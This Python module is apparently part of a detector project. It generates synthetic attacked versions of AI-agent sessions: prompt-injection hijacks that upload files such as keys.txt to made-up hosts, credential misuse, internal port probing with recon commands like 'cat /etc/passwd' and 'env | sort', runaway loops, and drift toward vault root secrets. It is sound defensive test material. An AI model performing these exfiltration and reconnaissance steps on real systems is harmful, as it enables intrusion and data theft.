"""Kinds of attack, as changes to a session that began as ordinary work.

None of them knows the detector: each does what the incident it stands for would do. The labels travel beside
the events, never in them.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Literal

from detector.simulate.agent import ZONES, agent_name, role_of
from detector.simulate.catalogue import ROLES
from detector.simulate.roles import Role, Tool
from detector.simulate.session import COUNTED, Argument, Step, act, insert, middle
from detector.simulate.stories import lateral_path, overdue_grant, stale_credential, unregistered_clone
from detector.simulate.targets import Scene
from detector.simulate.words import word

Kind = Literal[
    "hijack", "credential_misuse", "lateral_movement", "runaway_loop", "slow_drift",
    "overdue_grant", "stale_credential", "unregistered_clone", "lateral_path",
]  # fmt: skip

KINDS: tuple[Kind, ...] = ("hijack", "credential_misuse", "lateral_movement", "runaway_loop", "slow_drift")
"""Kinds of attack that show in what an agent does, in the order documents list them."""

STORIES: tuple[Kind, ...] = ("overdue_grant", "stale_credential", "unregistered_clone", "lateral_path")
"""Kinds that show against the registry of the fleet, which therefore must have one; the same order."""

_PROBE = Tool("connect", "network", "", ("port",), 180, 400, 60)
_UPLOAD = Tool("http_request", "network", "", ("method", "url"), 900, 300, 1800)
_REMOTE = Tool("run_command", "tool_call", "", (), 160, 900, 420)
_ASK = Tool("ask_agent", "message", "peer", ("question",), 340, 500, 400)
_COPY = Tool("copy_records", "tool_call", "", ("rows",), 200, 2600, 900)
_VAULT = Tool("read_secret", "auth", "", ("ttl_s",), 60, 220, 60)
_HOSTS = ("sync", "cdn", "files", "drop")
_PORTS = (22, 445, 3389, 5985)
_COMMANDS = ("id; uname -a", "cat /etc/passwd", "ls -la /home", "env | sort", "ip route; arp -n")
_STEALS = ("export.csv", "dump.sql", "keys.txt", "customers.jsonl", "mail.mbox")


def _reads(role: Role) -> list[Tool]:
    return [tool for tool in role.tools if tool.kind == "data_access" and tool.family]


def hijack(scene: Scene, acts: list[Step], _strength: int) -> list[Step]:
    """Return the session after an injected instruction: poisoned read, sensitive reads, upload to a new host.

    The host's name comes out of tool output; the upload uses a tool the agent has, or a plain request.
    """
    chance, role = scene.chance, scene.agent.role
    at = middle(chance, acts)
    acts[at - 1].received += 1500 + chance.below(4000)
    host = f"{_HOSTS[chance.below(len(_HOSTS))]}.{word(chance.getrandbits(16))}{chance.below(90)}.example"
    reads = _reads(role)
    added: list[Step] = []
    for _ in range(1 + chance.below(3)):
        read = act(scene, reads[chance.below(len(reads))])
        read.received = int(read.received * (4 + 12 * chance.random()))
        added.append(read)
    has_mail = any(tool.name == "send_email" for tool in role.tools)
    for index in range(1 + chance.below(3)):
        if has_mail and index == 1:
            step = act(scene, role.tool("send_email"), f"archive@{host}")
        else:
            step = act(scene, _UPLOAD, host)
            path = f"https://{host}/u/{_STEALS[chance.below(len(_STEALS))]}"
            step.args = [("method", "POST", "none"), ("url", path, "tool")]
        step.origin = "tool"
        step.received = int(chance.around(480_000, 0.6))
        step.ms += step.received / 400.0
        added.append(step)
    return insert(acts, at, added)


def credential_misuse(scene: Scene, acts: list[Step], _strength: int) -> list[Step]:
    """Return the session with another agent's credential in use: tools and data of a foreign role, some refused."""
    chance, agent = scene.chance, scene.agent
    others = [role for role in ROLES if role.name != agent.role.name]
    other = others[chance.below(len(others))]
    known = {tool.name for tool in agent.role.tools}
    foreign = [tool for tool in other.tools if tool.family and tool.name not in known]
    acting = [tool for tool in foreign if tool.kind != "data_access"] or foreign
    victim = _agent_of(scene, other)
    added: list[Step] = []
    for index in range(5 + chance.below(6)):
        tools = acting if index % 2 else foreign
        step = act(scene, tools[chance.below(len(tools))])
        step.credential = f"cred-{victim}"
        step.origin = "none"
        if chance.random() < (0.8 if index < 2 else 0.3):
            step.outcome, step.received = "denied", 70
        added.append(step)
    return insert(acts, middle(chance, acts), added)


def lateral_movement(scene: Scene, acts: list[Step], _strength: int) -> list[Step]:
    """Return the session with a fan-out: many agents never talked to, in other zones, and internal hosts probed."""
    chance, agent = scene.chance, scene.agent
    zones = [zone for zone, _ in ZONES if zone != agent.zone]
    net = f"10.{chance.below(200)}.{chance.below(250)}"
    added: list[Step] = []
    for index in range(10 + chance.below(10)):
        if index % 2:
            step = act(scene, _ASK, agent_name(chance.below(agent.fleet)))
            step.peer_zone = zones[chance.below(len(zones))]
            added.append(step)
            continue
        host = f"{net}.{2 + chance.below(250)}"
        probe = act(scene, _PROBE, host)
        probe.args = [("port", _PORTS[chance.below(len(_PORTS))], "none")]
        added.append(probe)
        if chance.random() < 0.4:
            probe.outcome, probe.received = "error", 0
        elif chance.random() < 0.5:
            run = act(scene, _REMOTE, host)
            run.args = [("command", _COMMANDS[chance.below(len(_COMMANDS))], "none")]
            added.append(run)
    for step in added:
        step.origin = "none"
    return insert(acts, middle(chance, acts), added)


def runaway_loop(scene: Scene, acts: list[Step], _strength: int) -> list[Step]:
    """Return the session stuck in an action that takes no effect: same arguments, growing context, machine pace."""
    chance = scene.chance
    doing = [index for index, step in enumerate(acts) if step.tool.kind in COUNTED]
    if doing:
        at = doing[chance.below(len(doing))] + 1
    else:
        at = len(acts) + 1
        acts = [*acts, act(scene, next(tool for tool in scene.agent.role.tools if tool.kind in COUNTED))]
    first = acts[at - 1]
    added: list[Step] = []
    for index in range(50 + chance.below(50)):
        args: list[Argument] = [part for part in first.args if part[0] != "attempt"]
        added.append(
            Step(
                first.tool, first.target, first.origin, [*args, ("attempt", index + 2, "none")], "ok",
                ms=12.0 + 10.0 * chance.random(), sent=first.sent,
                received=int((2.0 * first.received + 4000) * 1.04**index) + chance.below(60), peer_zone=first.peer_zone,
                is_terse=True,
            )
        )  # fmt: skip
    return insert(acts, at, added)


def slow_drift(scene: Scene, acts: list[Step], strength: int) -> list[Step]:
    """Return the session reaching a bit further than the one before it.

    Parameters
    ----------
    strength : int
        Sessions since the drift began: reads grow by a third each time, and from the fourth session on each one
        goes to a sensitive place it has not been to, and to the one before.
    """
    chance, size = scene.chance, 1.35 ** min(strength, 24)
    reads = _reads(scene.agent.role)
    added: list[Step] = []
    for _ in range(1 + min(strength, 6) // 3):
        read = act(scene, reads[chance.below(len(reads))])
        read.received = int(read.received * size)
        added.append(read)
    for number in range(max(strength - 5, 0), max(strength - 3, 0)):
        place = (scene.agent.own + 31 * number) % 4096
        if number % 2:
            step = act(scene, _VAULT, f"vault/{word(place)}/{word(place * 7)}-root")
        else:
            step = act(scene, _COPY, f"restricted/{word(place)}/{word(place * 13)}")
            step.received = int(step.received * size)
        step.origin = "none"
        added.append(step)
    return insert(acts, len(acts) // 2, added)


def _agent_of(scene: Scene, role: Role) -> str:
    """Return some agent of a role, or any other agent where the fleet has none."""
    size = scene.agent.fleet
    first = scene.chance.below(size)
    for offset in range(min(size, 200)):
        number = (first + offset) % size
        if role_of(number).name == role.name:
            return agent_name(number)
    return agent_name((scene.agent.number + 1) % size)


ATTACKS: dict[Kind, Callable[[Scene, list[Step], int], list[Step]]] = {
    "hijack": hijack,
    "credential_misuse": credential_misuse,
    "lateral_movement": lateral_movement,
    "runaway_loop": runaway_loop,
    "slow_drift": slow_drift,
    "overdue_grant": overdue_grant,
    "stale_credential": stale_credential,
    "unregistered_clone": unregistered_clone,
    "lateral_path": lateral_path,
}
"""Kind -> how it changes a session: scene, tool calls, and the strength of the injection."""
